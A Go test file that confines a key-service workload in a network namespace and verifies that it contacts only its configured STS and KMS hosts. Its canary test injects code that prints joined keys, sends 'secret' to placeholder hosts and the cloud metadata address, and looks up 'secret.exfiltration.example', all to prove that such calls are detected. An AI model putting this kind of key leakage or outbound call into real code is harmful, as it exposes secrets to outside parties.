package confine

import (
	"bytes"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"maps"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"syscall"
	"testing"

	"github.com/sigilkeys/sigil/internal/cloudsim"
)

// namespaced is a workload in a network of its own, under a warden.
type namespaced struct {
	cmd         *exec.Cmd
	in          io.Closer
	out, errors bytes.Buffer
	output      string // file
}

// startNamespaced starts a placed workload where only what its configuration
// names can be reached.
func startNamespaced(t *testing.T, p *placed) *namespaced {
	t.Helper()
	dir := t.TempDir()
	n := &namespaced{output: filepath.Join(dir, "out")}
	s := sentence{Program: []string{p.program, "--config", p.file}, Output: n.output, Allowed: map[string]string{}, Link: p.config.Listen, LinkIn: socketIn(t, dir, "link")}
	for i, at := range []string{hostOf(t, p.config.STSURL), hostOf(t, p.config.KMSURL)} {
		s.Allowed[at] = socketIn(t, dir, fmt.Sprint(i))
		carry(t, "unix", s.Allowed[at], "tcp", at)
	}
	carry(t, "tcp", p.config.Listen, "unix", s.LinkIn)
	raw, err := json.Marshal(s)
	if err != nil {
		t.Fatal(err)
	}
	n.cmd = exec.Command(os.Args[0])
	n.cmd.Env = append(os.Environ(), roleVar+"=warden", sentenceVar+"="+string(raw))
	n.cmd.Stdout, n.cmd.Stderr = &n.out, &n.errors
	if n.in, err = n.cmd.StdinPipe(); err != nil {
		t.Fatal(err)
	}
	n.cmd.SysProcAttr = &syscall.SysProcAttr{Cloneflags: syscall.CLONE_NEWUSER | syscall.CLONE_NEWNET,
		UidMappings: []syscall.SysProcIDMap{{ContainerID: 0, HostID: os.Getuid(), Size: 1}},
		GidMappings: []syscall.SysProcIDMap{{ContainerID: 0, HostID: os.Getgid(), Size: 1}}}
	if err := n.cmd.Start(); errors.Is(err, syscall.EPERM) || errors.Is(err, syscall.EINVAL) || errors.Is(err, syscall.ENOSPC) {
		t.Skipf("this kernel gives no user and network namespace (%v): allow it with sysctl kernel.unprivileged_userns_clone=1 and user.max_net_namespaces=100", err)
	} else if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = n.cmd.Process.Kill() }) // the workload goes with it
	awaitServing(t, n.output)
	return n
}

func socketIn(t *testing.T, dir, name string) string {
	t.Helper()
	path, cleanup, err := cloudsim.ShortPath(filepath.Join(dir, name))
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(cleanup)
	return path
}

// carry forwards connections until the test's end.
func carry(t *testing.T, network, from, toNetwork, to string) {
	t.Helper()
	l, err := net.Listen(network, from)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = l.Close() })
	go forward(l, toNetwork, to)
}

// stop ends the workload and returns what was tried in its network.
func (n *namespaced) stop(t *testing.T) observed {
	t.Helper()
	var o observed
	if err := errors.Join(n.in.Close(), n.cmd.Wait()); err != nil {
		t.Fatalf("%v\n%s", err, &n.errors)
	}
	if err := json.Unmarshal(n.out.Bytes(), &o); err != nil {
		t.Fatalf("%v: %s", err, &n.out)
	}
	if o.Lost > 0 || o.Ended != "" {
		t.Errorf("%d packets lost; workload: %q", o.Lost, o.Ended)
	}
	return o
}

// elsewhere are the attempts that an allowed one isn't among.
func (o *observed) elsewhere(allowed ...string) (list []string) {
	for _, at := range slices.Sorted(maps.Keys(o.Tried)) {
		if !slices.Contains(allowed, strings.TrimPrefix(at, "tcp ")) {
			list = append(list, at)
		}
	}
	return list
}

// In a network where every address can be tried and every packet is read, a
// whole session of the workload connects to STS and KMS and to nothing else:
// no other host or port, no name server, nothing but TCP.
func TestTalksToItsConfigurationAlone(t *testing.T) {
	p := place(t, build(t, nil))
	n := startNamespaced(t, p)
	s := p.control(t)
	u := session(t, s)
	attested(t, s, u.token)
	o := n.stop(t)
	p.quiet(t, s, u, n.output)
	allowed := []string{hostOf(t, p.config.STSURL), hostOf(t, p.config.KMSURL), p.config.Listen}
	for _, at := range allowed {
		if o.Tried["tcp "+at] == 0 {
			t.Errorf("the warden is blind: it hasn't seen a connection to %s", at)
		}
	}
	for _, at := range o.elsewhere(allowed...) {
		t.Errorf("%d packets to %s", o.Tried[at], at)
	}
	t.Logf("%v", o.Tried)
}

// Canary: a workload that serves as well, calls elsewhere once, and prints the
// keys that it joins.
func TestCallsElsewhereAreSeen(t *testing.T) {
	const join = "	subtle.XORBytes(key[:], tee[:], provider[:])"
	p := place(t, build(t, edits{"internal/sealed/sealed.go": {join, join + "\n	fmt.Fprintf(os.Stderr, \"joined %x\\n\", key[:])", `	"fmt"`, "	\"fmt\"\n	\"os\""}, "cmd/sigil-tee/serve.go": {
		`	"log/slog"`, `	"log/slog"
	"net"`,
		`	log.Info("serving"`, `	for _, at := range []string{"tcp 203.0.113.9:443", "tcp 169.254.169.254:80", "tcp [2001:db8::9]:443", "tcp 127.0.0.1:1", "udp 203.0.113.9:4433", "udp [2001:db8::9]:53"} {
		if c, err := net.DialTimeout(at[:3], at[4:], time.Second); err == nil {
			_, _ = c.Write([]byte("secret"))
			_ = c.Close()
		}
	}
	lctx, end := context.WithTimeout(ctx, 3*time.Second)
	_, _ = net.DefaultResolver.LookupHost(lctx, "secret.exfiltration.example")
	end()
	log.Info("serving"`,
	}}))
	n := startNamespaced(t, p)
	s := p.control(t)
	u := session(t, s)
	o := n.stop(t)
	if said := p.said(t, s, u, n.output); !slices.ContainsFunc(said, func(name string) bool { return strings.HasPrefix(name, "wallet ") }) {
		t.Errorf("no key is found in what the workload printed: %v", said)
	}
	found := strings.Join(o.elsewhere(hostOf(t, p.config.STSURL), hostOf(t, p.config.KMSURL), p.config.Listen), "\n") + "\n"
	for _, at := range []string{"tcp 203.0.113.9:443", "tcp 169.254.169.254:80", "tcp [2001:db8::9]:443", "tcp 127.0.0.1:1", "udp 203.0.113.9:4433", "udp [2001:db8::9]:53"} {
		if !strings.Contains(found, at+"\n") {
			t.Errorf("not seen: %s", at)
		}
	}
	if !slices.ContainsFunc(o.elsewhere(), func(at string) bool {
		return strings.HasPrefix(at, "udp ") && strings.HasSuffix(at, ":53") && !strings.Contains(at, "2001:db8")
	}) {
		t.Error("the question to a name server isn't seen")
	}
	t.Logf("seen:\n%s", found)
}
